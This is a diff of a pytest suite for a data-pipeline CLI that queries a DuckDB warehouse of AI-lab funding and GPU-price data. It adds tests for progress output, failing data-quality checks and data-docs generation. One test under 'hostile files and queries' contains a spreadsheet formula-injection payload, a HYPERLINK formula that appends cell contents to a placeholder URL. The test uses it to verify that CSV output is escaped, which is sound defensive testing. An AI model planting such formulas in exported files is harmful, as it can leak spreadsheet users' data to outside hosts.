@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 
-from conftest import MINI_INPUT, TESTS_DIR
+from helpers import MINI_INPUT, TESTS_DIR
 
 SCRIPT = Path(sys.executable).parent / "compute-ledger"
 
@@ -23,7 +23,11 @@ def cli(*args, db=None, env=None):
 
 
 def test_sql_prints_a_table(mini_warehouse):
-    out = cli("sql", "select company, round_id, equity_usd_mid from marts.leverage_rounds where company = 'Lab A' order by round_id", db=mini_warehouse)
+    out = cli(
+        "sql",
+        "select company, round_id, equity_usd_mid from marts.leverage_rounds where company = 'Lab A' order by round_id",
+        db=mini_warehouse,
+    )
     assert out.returncode == 0, out.stderr
     lines = out.stdout.splitlines()
     assert lines[0].split("|")[1].strip() == "company"
@@ -31,9 +35,21 @@ def test_sql_prints_a_table(mini_warehouse):
 
 
 def test_sql_csv_and_json(mini_warehouse):
-    out = cli("sql", "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'", "--format", "csv", db=mini_warehouse)
+    out = cli(
+        "sql",
+        "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'",
+        "--format",
+        "csv",
+        db=mini_warehouse,
+    )
     assert out.stdout.splitlines() == ["round_id,debt_usd_high", "a-r1,4000000000.0"]
-    out = cli("sql", "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'", "--format", "json", db=mini_warehouse)
+    out = cli(
+        "sql",
+        "select round_id, debt_usd_high from marts.leverage_rounds where round_id = 'a-r1'",
+        "--format",
+        "json",
+        db=mini_warehouse,
+    )
     assert json.loads(out.stdout) == [{"round_id": "a-r1", "debt_usd_high": 4e9}]
 
 
@@ -66,10 +82,15 @@ def test_run_prints_progress_and_marts(tmp_path):
     out = cli(
         "run",
         db=db,
-        env={"COMPUTE_LEDGER_INPUT": str(MINI_INPUT), "COMPUTE_LEDGER_AS_OF": "2025-09-30", "DAGSTER_HOME": str(tmp_path / "home")},
+        env={
+            "COMPUTE_LEDGER_INPUT": str(MINI_INPUT),
+            "COMPUTE_LEDGER_AS_OF": "2025-09-30",
+            "DAGSTER_HOME": str(tmp_path / "home"),
+        },
     )
     assert out.returncode == 0, out.stdout + out.stderr
     assert "✓ staging/funding_events" in out.stdout and "6 rows" in out.stdout
+    assert "✓ funding_events_expectations" in out.stdout and "checks passed" in out.stdout
     assert "## Runway" in out.stdout and "Lab A" in out.stdout
     assert f"Warehouse: {db}" in out.stdout
 
@@ -82,7 +103,41 @@ def test_run_failure_names_the_file_row_and_column(tmp_path):
     out = cli("run", db=tmp_path / "w.duckdb", env={"COMPUTE_LEDGER_INPUT": str(folder), "DAGSTER_HOME": str(tmp_path / "home")})
     assert out.returncode == 1
     assert "assumptions.csv, row 2, column 'value_mid'" in out.stderr
+    assert "✗ ref/assumptions: " in out.stdout  # the progress line of the failed step
     assert "Traceback" not in out.stdout + out.stderr
+
+
+def test_a_blocking_check_that_fails_is_named_with_its_rows(tmp_path):
+    folder = tmp_path / "input"
+    subprocess.run(["cp", "-r", str(MINI_INPUT), str(folder)], check=True)
+    prices = folder / "gpu_prices.csv"
+    prices.write_text(prices.read_text().replace("r2,H100,on_demand,3,3,", "r2,H100,on_demand,3000,3000,"))
+    env = {"COMPUTE_LEDGER_INPUT": str(folder), "COMPUTE_LEDGER_AS_OF": "2025-09-30", "DAGSTER_HOME": str(tmp_path / "home")}
+    out = cli("run", db=tmp_path / "w.duckdb", env=env)
+    assert out.returncode == 1
+    assert "✗ gpu_prices_expectations: 1 check(s) failed" in out.stdout
+    assert "error staging/gpu_prices gpu_hour_plausible: 1 of" in out.stdout
+    assert "blocking data-quality checks failed" in out.stderr and "marts/gpu_price_index" in out.stderr
+
+
+def test_sql_starts_without_dagster_or_great_expectations(mini_warehouse):
+    code = (
+        "import sys; from pipelines.cli import main; main(['sql', 'select 1 as one', '--db', sys.argv[1]]); "
+        "print(sorted(m for m in ('dagster', 'great_expectations', 'pandas') if m in sys.modules))"
+    )
+    out = subprocess.run([sys.executable, "-c", code, str(mini_warehouse)], capture_output=True, text=True, timeout=60)
+    assert out.returncode == 0, out.stderr
+    assert out.stdout.splitlines()[-1] == "[]"
+
+
+def test_docs_builds_data_docs_of_the_warehouse(mini_warehouse, tmp_path):
+    out = cli("docs", "--db", str(mini_warehouse), "--out", str(tmp_path / "docs"), env={"COMPUTE_LEDGER_AS_OF": "2025-09-30"})
+    assert out.returncode == 0, out.stderr
+    assert "staging.gpu_prices" in out.stdout and "expectations passed" in out.stdout
+    index = tmp_path / "docs" / "index.html"
+    assert f"Data Docs: {index}" in out.stdout and index.exists()
+    pages = list((tmp_path / "docs" / "validations").rglob("*.html"))
+    assert len(pages) == 6
 
 
 # --- issue 11, hostile files and queries ----------------------------------------------------
@@ -98,7 +153,7 @@ def test_sql_csv_escapes_formulas_unless_told_not_to(mini_warehouse):
     assert out.returncode == 0, out.stderr
     [header, row] = list(csv.reader(io.StringIO(out.stdout)))
     assert dict(zip(header, row)) == {
-        "note": "'=HYPERLINK(\"http://x\"&A1,\"source\")",
+        "note": '\'=HYPERLINK("http://x"&A1,"source")',
         "n": "-5",  # a number stays a number
         "minus_text": "'-5",
         "plus": "'+1",
